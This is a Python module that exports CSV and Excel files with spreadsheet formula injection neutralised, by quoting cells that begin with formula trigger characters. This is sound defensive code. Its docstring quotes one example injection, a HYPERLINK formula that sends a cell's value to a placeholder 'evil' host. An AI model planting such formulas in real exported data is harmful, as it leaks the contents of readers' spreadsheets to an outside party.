"""The one CSV writer of the workbench: every CSV it hands out (dataset releases, their evidence,
an agreement's history, the agreement report, regression tables) is data, never a formula.

A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` as a formula (and tab or carriage
return before one hides it), so a quote or rationale saved as `=HYPERLINK("http://evil/"&A1)` would
run on the reader's machine. Following OWASP's CSV-injection guidance, such a text cell gets a
leading single quote. Real numbers (ints, floats, numpy numbers, numeric columns of a DataFrame)
are written as numbers, so -0.25 stays -0.25; text that looks like a number ('-5' typed in a quote)
is text and is neutralised like any other. None and NaN are empty cells.

Pure (a Django-free module of the coding app, which the analysis app may import); pandas frames
are handled by duck typing, so this module imports neither Django nor pandas.
"""

import csv
import io
import numbers
from collections.abc import Iterable
from typing import Any, TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _is_missing(value: object) -> bool:
    if value is None:
        return True
    if type(value).__name__ in {"NAType", "NaTType"}:  # pandas' missing markers
        return True
    try:
        return bool(value != value)  # NaN is the only value unequal to itself
    except (TypeError, ValueError):
        return False


def safe_cell(value: object) -> object:
    """One cell as a spreadsheet must read it: numbers (and booleans) as they are, None/NaN empty,
    any other value as text, with a leading quote when it begins with a formula trigger."""
    if _is_missing(value):
        return ""
    if isinstance(value, (bool, numbers.Number)):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(TRIGGERS) else text


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]


class SafeWriter:
    """csv.writer's writerow/writerows with every cell passed through safe_cell."""

    def __init__(self, stream: TextIO, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, values: Iterable[object]) -> Any:
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for values in rows:
            self.writerow(values)


def rows_csv(rows: Iterable[Iterable[object]], *, lineterminator: str = "\r\n") -> str:
    """A whole CSV (text) of rows (the first is usually the header)."""
    buffer = io.StringIO()
    SafeWriter(buffer, lineterminator=lineterminator).writerows(rows)
    return buffer.getvalue()


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells and headers are neutralised. Numeric columns
    are left as they are, so pandas writes their numbers exactly as before; a text column that
    holds numbers among its text keeps those numbers too (safe_cell decides per value)."""
    data = frame.copy()
    for column in data.columns:
        if data[column].dtype.kind in "OSU" or str(data[column].dtype) in {"string", "category"}:
            data[column] = data[column].map(lambda v: v if _is_missing(v) else safe_cell(v)).astype(object)
    data.columns = [safe_cell(c) if isinstance(c, str) else c for c in data.columns]
    return data


def frame_csv(frame: Any, *, bom: bool = True) -> bytes:
    """A DataFrame as CSV bytes: UTF-8 with a byte-order mark (so Excel opens Chinese names
    correctly), no index, "\\n" line ends; text neutralised, numbers as numbers."""
    text: str = safe_frame(frame).to_csv(index=False, lineterminator="\n")
    return text.encode("utf-8-sig" if bom else "utf-8")


def sheet_cells_as_text(sheets: Iterable[Any]) -> None:
    """The same rule for Excel files: openpyxl stores a string that begins with "=" as a formula,
    so every such cell of these worksheets becomes the text it was (numbers stay numbers). Called
    on every sheet of every workbook the workbench writes, after the sheet is filled."""
    for sheet in sheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
